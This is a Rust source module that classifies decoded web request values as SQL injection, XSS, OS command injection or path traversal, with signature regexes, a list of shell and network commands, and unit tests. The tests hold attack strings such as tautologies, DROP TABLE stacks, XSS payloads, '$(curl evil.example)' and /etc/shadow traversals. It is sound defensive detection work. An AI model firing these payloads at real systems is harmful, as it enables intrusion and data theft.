//! Classifies one decoded request value ([`super::decode`]) as SQL injection, XSS, OS command
//! injection or path traversal.
//!
//! * SQL injection and XSS: `libinjectionrs`, the Rust port of libinjection (tokenizer and
//!   fingerprint based, as in ModSecurity's `@detectSQLi`/`@detectXSS`), plus a few signatures
//!   of the earlier rule set that catch shapes libinjection misses (see `SQLI`, `XSS`).
//! * Command injection: a shell separator (`;`, `|`, `&`, `` ` ``, `$(`, newline) followed by a
//!   known command or a binary path; a whole value that is a command with an option or a binary
//!   path; SSI `<!--#exec`; interpreter calls such as `system('…')`.
//! * Path traversal: a `..` path segment (after folding hex-literal and overlong encodings of
//!   `.`, `/` and `\`), or a reference to a well-known system file (`/etc/passwd`, `boot.ini`,
//!   `win.ini`, `WEB-INF/web.xml`, …).
//!
//! Pure functions of the value.

use std::sync::LazyLock;

use regex::Regex;

use crate::logmarket::insight::InsightKind;

/// One reason a value looks like an attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Finding {
    pub kind: InsightKind,
    /// Short name of the rule that matched (shown in the insight's `signatures`).
    pub signature: &'static str,
}

const fn f(kind: InsightKind, signature: &'static str) -> Finding {
    Finding { kind, signature }
}

fn re(pattern: &str) -> Regex {
    Regex::new(pattern).expect("injection signature compiles")
}

struct Signature {
    name: &'static str,
    regex: Regex,
}

fn sig(name: &'static str, pattern: &str) -> Signature {
    Signature {
        name,
        regex: re(pattern),
    }
}

/// SQL injection signatures kept from the first rule set, matched on the lower-cased value
/// besides libinjection (they catch payloads its fingerprints do not).
static SQLI: LazyLock<Vec<Signature>> = LazyLock::new(|| {
    vec![
        sig(
            "tautology (' OR '1'='1)",
            r#"['"]\s*(?:or|\|\|)\s*['"]?\w+['"]?\s*(?:=|like)\s*['"]?\w+"#,
        ),
        sig("tautology (OR 1=1)", r"\bor\s+1\s*=\s*1\b"),
        sig(
            "UNION SELECT",
            r"\bunion(?:\s+|/\*.*?\*/)+(?:all(?:\s+|/\*.*?\*/)+)?select\b",
        ),
        sig(
            "stacked query (; DROP TABLE)",
            r";\s*(?:drop|truncate|alter)\s+(?:table|database)\b",
        ),
        sig(
            "stacked query",
            r";\s*(?:delete\s+from|insert\s+into|update\s+\w+\s+set|shutdown|exec(?:ute)?\s)",
        ),
        sig(
            "time-based (SLEEP/BENCHMARK)",
            r"\b(?:sleep|pg_sleep|benchmark)\s*\(|\bwaitfor\s+delay\b",
        ),
        sig("information_schema probe", r"information_schema"),
        sig("xp_cmdshell", r"xp_cmdshell"),
        sig("comment after quote ('--)", r"'\s*(?:--|#|/\*)"),
        sig(
            "error-based (EXTRACTVALUE/UPDATEXML)",
            r"\b(?:extractvalue|updatexml)\s*\(",
        ),
    ]
});

/// XSS signatures kept from the first rule set, matched on the lower-cased value.
static XSS: LazyLock<Vec<Signature>> = LazyLock::new(|| {
    vec![
        sig("<script> tag", r"<\s*script\b"),
        sig("javascript: URL", r"javascript\s*:"),
        sig(
            "event handler (onerror=/onload=)",
            r"\bon(?:error|load|mouseover|focus|click|toggle|start)\s*=",
        ),
        sig(
            "HTML injection (<img>/<svg>/<iframe>)",
            r"<\s*(?:img|svg|iframe|body|object|embed)\b",
        ),
        sig("document.cookie", r"document\.cookie"),
        sig("alert() probe", r"\balert\s*\(|fromcharcode\s*\("),
    ]
});

/// Commands an injected shell fragment typically runs (lower case, without `.exe`).
const COMMANDS: &[&str] = &[
    "id",
    "whoami",
    "uname",
    "cat",
    "ls",
    "dir",
    "ping",
    "sleep",
    "netstat",
    "ifconfig",
    "ipconfig",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "bash",
    "sh",
    "zsh",
    "cmd",
    "powershell",
    "echo",
    "type",
    "nslookup",
    "ps",
    "env",
    "set",
    "pwd",
    "hostname",
    "rm",
    "chmod",
    "telnet",
    "perl",
    "python",
    "python3",
    "php",
    "ruby",
    "systeminfo",
    "tasklist",
    "net",
    "more",
];

static RE_CMD_AFTER_SEPARATOR: LazyLock<Regex> = LazyLock::new(|| {
    re(&format!(
        r#"(?:[;|`\n]|&&?|\$\()[\s+'"]*(?:(?:/usr)?/s?bin/[\w.-]+|usr/s?bin/[\w.-]+|(?:{})(?:\.exe)?(?:[\s+;|&`)'"]|$))"#,
        COMMANDS.join("|")
    ))
});
static RE_CMD_WHOLE: LazyLock<Regex> = LazyLock::new(|| {
    re(&format!(
        r#"^[\s+]*(?:(?:/usr)?/s?bin/[\w.-]+\s*\|?$|(?:{})(?:\.exe)?[\s+]+-{{1,2}}[a-z])"#,
        COMMANDS.join("|")
    ))
});
static RE_CMD_CALL: LazyLock<Regex> = LazyLock::new(|| {
    re(r#"<!--\s*#\s*exec\b|\b(?:system|exec|shell_exec|passthru|popen|proc_open)\s*\(\s*['"`]"#)
});

/// Well-known files a traversal reaches for.
static RE_SYSTEM_FILE: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?:^|[/\\:.])(?:etc[/\\]+(?:passwd|shadow|group|hosts)\b|boot\.ini\b|win\.ini\b|system\.ini\b|web-inf[/\\]+web\.xml\b|global\.asa\b|proc[/\\]+self[/\\])",
    )
});
/// A `..` (or longer run of dots) path segment.
static RE_DOT_SEGMENT: LazyLock<Regex> =
    LazyLock::new(|| re(r"(?:^|[/\\])\.{2,}(?:[/\\]|$)|^\.{2,}[/\\]?\w|[/\\]\.{3,}"));
/// Hex-literal spellings of `.`, `/` and `\` seen in traversal payloads (`0x2e0x2e0x2f`).
static RE_HEX_LITERAL: LazyLock<Regex> = LazyLock::new(|| re(r"0x2e|0x2f|0x5c"));

/// Every finding for one decoded value (lower-cased here), each kind at most once.
pub fn classify_value(value: &str) -> Vec<Finding> {
    let mut out = Vec::new();
    if !may_be_attack(value) {
        return out;
    }
    let lower = value.to_ascii_lowercase();
    if let Some(s) = sqli(&lower) {
        out.push(f(InsightKind::SqlInjection, s));
    }
    if let Some(s) = xss(value, &lower) {
        out.push(f(InsightKind::Xss, s));
    }
    if let Some(s) = command_injection(&lower) {
        out.push(f(InsightKind::CommandInjection, s));
    }
    if let Some(s) = path_traversal(&lower) {
        out.push(f(InsightKind::PathTraversal, s));
    }
    out
}

/// The whole-text signatures (`SQLI`, `XSS`) on a decoded, lower-cased request target or
/// parameter dump: they also see payloads in the path and in logged parameters that are not
/// `name=value` pairs.
pub fn signature_findings(lower: &str) -> Vec<Finding> {
    let mut out = Vec::new();
    for (kind, sigs) in [
        (InsightKind::SqlInjection, &*SQLI),
        (InsightKind::Xss, &*XSS),
    ] {
        out.extend(
            sigs.iter()
                .filter(|s| s.regex.is_match(lower))
                .map(|s| f(kind, s.name)),
        );
    }
    out
}

/// Path traversal in a decoded request path (the other kinds are judged on values only, so
/// that REST paths and slugs are never taken for SQL).
pub fn classify_path(path: &str) -> Option<Finding> {
    path_traversal(&path.to_ascii_lowercase()).map(|s| f(InsightKind::PathTraversal, s))
}

/// A value of letters, digits and `.,-_@ ` alone is never an attack; skipping it keeps the
/// tokenizers off ordinary parameters.
fn may_be_attack(v: &str) -> bool {
    v.bytes().any(|b| {
        !(b.is_ascii_alphanumeric() || matches!(b, b' ' | b'.' | b',' | b'-' | b'_' | b'@'))
    }) || v.contains("..")
        || v.len() > 2 && v.contains(' ')
}

fn sqli(lower: &str) -> Option<&'static str> {
    if libinjectionrs::detect_sqli(lower.as_bytes()).is_injection() {
        return Some("libinjection SQLi tokenizer");
    }
    SQLI.iter()
        .find(|s| s.regex.is_match(lower))
        .map(|s| s.name)
}

fn xss(value: &str, lower: &str) -> Option<&'static str> {
    if !value
        .bytes()
        .any(|b| matches!(b, b'<' | b'>' | b'"' | b'\'' | b'=' | b':' | b'(' | b'`'))
    {
        return None;
    }
    if libinjectionrs::detect_xss(value.as_bytes()).is_injection() {
        return Some("libinjection XSS (HTML5 tokenizer)");
    }
    XSS.iter().find(|s| s.regex.is_match(lower)).map(|s| s.name)
}

fn command_injection(lower: &str) -> Option<&'static str> {
    if RE_CMD_CALL.is_match(lower) {
        Some("interpreter or SSI exec")
    } else if RE_CMD_AFTER_SEPARATOR.is_match(lower) {
        Some("shell separator then command")
    } else if RE_CMD_WHOLE.is_match(lower) {
        Some("command line as a value")
    } else {
        None
    }
}

fn path_traversal(lower: &str) -> Option<&'static str> {
    let folded;
    let v = if lower.contains("0x") {
        folded = RE_HEX_LITERAL.replace_all(lower, |c: &regex::Captures<'_>| match &c[0] {
            "0x2e" => ".",
            "0x2f" => "/",
            _ => "\\",
        });
        folded.as_ref()
    } else {
        lower
    };
    if RE_DOT_SEGMENT.is_match(v) {
        Some("dot-dot path segment")
    } else if RE_SYSTEM_FILE.is_match(v) {
        Some("system file reference")
    } else {
        None
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(v: &str) -> Vec<InsightKind> {
        classify_value(v).into_iter().map(|f| f.kind).collect()
    }

    #[test]
    fn sql_injection_values() {
        for v in [
            "1' OR '1'='1",
            "1 union all select null,null--",
            "x\"); drop table users; --",
            "1 and 42=benchmark(100000,md5(1))",
            "admin'--",
            "1)) or sleep(5)#",
            "-5 or 7=7",
        ] {
            assert!(kinds(v).contains(&InsightKind::SqlInjection), "{v}");
        }
    }

    #[test]
    fn xss_values() {
        for v in [
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(document.domain)>",
            "<svg/onload=confirm(1)>",
            "<a href=\"javascript:void(0)\">x</a>",
            "<body onload=init()>",
        ] {
            assert!(kinds(v).contains(&InsightKind::Xss), "{v}");
        }
    }

    #[test]
    fn command_injection_values() {
        for v in [
            "a;id",
            "x | /bin/cat /tmp/x",
            "127.0.0.1 && whoami",
            "`uname -a`",
            "$(curl evil.example)",
            "/usr/bin/id",
            "ping -c 10 10.0.0.1",
            "<!--#exec cmd=\"ls\"-->",
            "; system('ls')",
        ] {
            assert!(kinds(v).contains(&InsightKind::CommandInjection), "{v}");
        }
    }

    #[test]
    fn path_traversal_values() {
        for v in [
            "../../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "/0x2e0x2e/0x2e0x2e/secret",
            "....//....//etc/hosts",
            "c:/boot.ini",
            "file:///etc/shadow",
            "../web-inf/web.xml",
        ] {
            assert!(kinds(v).contains(&InsightKind::PathTraversal), "{v}");
        }
        assert!(classify_path("/static/../../etc/passwd").is_some());
        assert!(classify_path("/static/app.js").is_none());
    }

    #[test]
    fn benign_values_are_quiet() {
        for v in [
            "O'Brien",
            "d'Artagnan, l'Aquila",
            "Mary-Jane Smith",
            "jane.doe+news@example.org",
            "https://example.com/a/b?c=d",
            "{\"name\":\"x\",\"tags\":[1,2]}",
            "It's a dog's life, isn't it?",
            "c/ mayor s/n, 3-b",
            "wait... what",
            "price < 20 and > 10",
            "rock & roll",
            "1,2;3",
            "identity",
            "cat food",
            "/images/logo.png",
            "see ../README for details",
            "e-mail: ana@example.com; phone 555-0100",
            "SELECT your plan",
            "50% off",
            "a=b",
        ] {
            assert_eq!(kinds(v), [], "{v}");
        }
    }
}
